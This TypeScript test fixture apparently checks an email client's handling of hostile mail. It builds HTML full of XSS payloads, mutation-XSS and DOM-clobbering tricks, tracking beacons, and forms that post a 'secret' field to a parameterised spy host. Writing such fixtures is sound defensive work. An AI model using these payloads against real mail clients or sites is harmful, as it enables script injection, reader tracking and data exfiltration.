/** HTML by somebody who means ill: all the ways by which a mail tries to act, to leave a mark, or to tell that it is read. */

/**
 * What may be loaded once remote content is asked for: pictures, styles and fonts; and what a link has loaded ahead, of which
 * nothing is shown: that tells no more than a picture does.
 */
export const remoteContent = [
  "/img",
  "/srcset",
  "/background",
  "/inline",
  "/import.css",
  "/font",
  "/link.css",
  "/icon",
  "/prefetch.html",
] as const;

/** `spy` is the origin of the server that would hear of it. The last element is the text "The end of the mail". */
export function hostileHtml(spy: string): string {
  return [
    // What a mail says of its page.
    `<html><head><base href="${spy}/base/" target="_top"><meta http-equiv="refresh" content="0;url=${spy}/refresh.html">`,
    `<meta http-equiv="set-cookie" content="hostile=1"><meta http-equiv="Content-Security-Policy" content="default-src * data: 'unsafe-inline' 'unsafe-eval'">`,
    // Who is asked would learn where the mail is read.
    `<meta name="referrer" content="unsafe-url">`,
    // Names that are looked up before anything is loaded, and what is loaded ahead.
    `<link rel="stylesheet" href="${spy}/link.css"><link rel="prefetch" href="${spy}/prefetch.html">`,
    `<link rel="preload" as="script" href="${spy}/preload.js"><link rel="preconnect" href="${spy}">`,
    `<link rel="dns-prefetch" href="${spy}"><link rel="icon" href="${spy}/icon"><link rel="manifest" href="${spy}/manifest">`,
    `<link rel="modulepreload" href="${spy}/module.js">`,
    `<style>@import url("${spy}/import.css"); @font-face { font-family: spy; src: url("${spy}/font") }
      body { background: url("${spy}/background"); font-family: spy }</style></head>`,
    // Scripts and handlers.
    `<body onload="alert('onload')"><script>alert("script"); top.location = "${spy}/top.html"</script>`,
    `<script src="${spy}/script.js"></script><script type="module" src="${spy}/script.js"></script>`,
    `<img src="x" onerror="alert('onerror'); parent.document.title = 'hostile'">`,
    `<input autofocus onfocus="alert('onfocus')"><details open ontoggle="alert('ontoggle')">x</details>`,
    `<svg onload="alert('svg')" viewBox="0 0 90 20" width="90"><script>alert("svg script")</script>
      <animate attributeName="x" dur="1s" onbegin="alert('onbegin')"/><use href="${spy}/use.svg#a"/>
      <foreignObject><iframe src="${spy}/foreign.html"></iframe></foreignObject>
      <a href="javascript:alert('svg link')"><text y="15">svg link</text></a></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert('math')&gt;">`,
    `</table></mtext></math><noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></p></noscript>`,
    `<div><template shadowrootmode="open"><img src="x" onerror="alert('shadow')"><script src="${spy}/shadow.js"></script></template></div>`,
    // What is clicked.
    `<p><a href="javascript:alert('link')">javascript link</a> <a href="${spy}/top.html" target="_top">top link</a>
      <a href="${spy}/blank.html" target="_blank" ping="${spy}/ping">blank link</a>
      <a href="data:text/html,<script>alert(1)</script>">data link</a></p>`,
    `<form action="${spy}/form.html" method="post"><input name="secret" value="1"><button>submit</button></form>`,
    `<form action="javascript:alert('form')"><button formtarget="_top" formaction="${spy}/action.html">go</button></form>`,
    // Pages within.
    `<iframe src="${spy}/frame.html"></iframe><iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>`,
    `<iframe src="javascript:alert('frame')"></iframe><object data="${spy}/object.html"></object>`,
    `<embed src="${spy}/embed.html"><object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>`,
    // What tells the sender.
    `<img src="${spy}/img" referrerpolicy="unsafe-url" crossorigin="use-credentials"><img srcset="${spy}/srcset 1x"><p style="background-image: url('${spy}/inline')">x</p>`,
    `<video src="${spy}/video" autoplay></video><audio src="${spy}/audio" autoplay></audio>`,
    // Names that would stand in the page's way, were they in it.
    `<img name="cookie"><form name="body" id="getElementById"><input id="root" name="location"></form><a id="top" name="top">x</a>`,
    `<b id="hostile">bold</b><p>The end of the mail</p></body></html>`,
  ].join("\n");
}

/** Markup for where a text belongs; were it read as HTML, there would be an element `#hostile` and a dialog. */
export const hostileText = `"'><b id="hostile">&amp;</b><img src=x onerror=alert(1)><script>alert(2)</script>`;
